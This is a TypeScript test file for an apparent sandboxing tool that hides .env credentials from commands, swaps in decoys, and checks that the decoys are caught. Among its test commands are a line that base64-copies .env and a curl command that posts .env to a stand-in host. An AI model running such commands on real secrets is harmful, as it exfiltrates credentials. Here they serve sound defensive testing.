import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { test } from 'node:test';
import { Checkout } from './contained-run.ts';

const SECRET = 'sk-live-Zx81kPq0Vb7RtY3mNc5Ws2Lf';
const FILES = { 'a.txt': 'a\n' };
const ENV_FILE = `API_KEY=${SECRET}\n`;
const DECOY_NAME = 'decoy API_KEY of .env';

/** A checkout with a credential that git does not track, and a template that it does not track either. */
function checkoutWithSecret(): Checkout {
  const checkout = new Checkout(FILES);
  checkout.write('.env', ENV_FILE);
  checkout.write('.env.example', 'API_KEY=\n');
  return checkout;
}

test('a hidden file is empty inside, and a template is not hidden', async () => {
  using checkout = checkoutWithSecret();
  const run = await checkout.run(['sh', '-c', 'wc -c < .env; cat .env.example']);
  assert.equal(run.exit, 0, run.stderr);
  assert.match(run.stdout, /^0\nAPI_KEY=\n$/);
});

test('the policy may hide a template too, show what is hidden, or leave nothing in its place', async () => {
  using checkout = checkoutWithSecret();
  const policy = checkout.policy({ workspace: { hidden: 'absent', hide: ['.env.example', '!.env'] } });
  const run = await checkout.run(['sh', '-c', 'ls -A; cat .env'], { flags: ['--policy', policy] });
  assert.equal(run.exit, 0, run.stderr);
  assert.doesNotMatch(run.stdout, /env\.example/);
  assert.match(run.stdout, new RegExp(SECRET));
});

test('a decoy that goes into the change or the output is caught and named', async () => {
  using checkout = checkoutWithSecret();
  const policy = checkout.policy({ workspace: { hidden: 'decoy' } });
  const run = await checkout.run(['sh', '-c', 'wc -c < .env; cat .env; base64 .env > copied.txt'], {
    flags: ['--policy', policy],
  });
  assert.equal(run.exit, 1, run.stderr);
  assert.match(run.stdout, new RegExp(`^${ENV_FILE.length}\nAPI_KEY=`));
  assert.doesNotMatch(run.stdout, /sk-live-[A-Za-z0-9]{24}/);
  const { change, end } = run.report();
  assert.deepEqual(
    change?.secretHits.map(({ path, name }) => [path, name]),
    [['copied.txt', DECOY_NAME]],
  );
  assert.match(end.kind === 'blocked' ? end.reason : '', new RegExp(DECOY_NAME));
  assert.equal(run.read('changes.patch'), '');
});

test('a decoy does not reach a host that the policy grants, and the record names the file that was read', async () => {
  const received: string[] = [];
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    received.push(body);
    response.end('thanks\n');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  try {
    using checkout = checkoutWithSecret();
    const policy = checkout.policy({
      workspace: { hidden: 'decoy' },
      network: { allow: [{ host: 'sink.example', port, protocol: 'http', address: '127.0.0.1' }] },
    });
    const post = (data: string) => `curl -sS -m 10 --data-binary ${data} http://sink.example:${port}/; `;
    const run = await checkout.run(['sh', '-c', `${post('harmless')}${post('@.env')}true`], {
      flags: ['--policy', policy],
    });
    assert.equal(run.exit, 0, run.stderr);
    assert.equal(received[0], 'harmless');
    assert.ok(!received.some((body) => /sk-live-[A-Za-z0-9]{24}/.test(body)), received.join('\n'));
    assert.match(run.read('ledger/events.ndjson') ?? '', new RegExp(DECOY_NAME));
  } finally {
    server.closeAllConnections();
    server.close();
  }
});
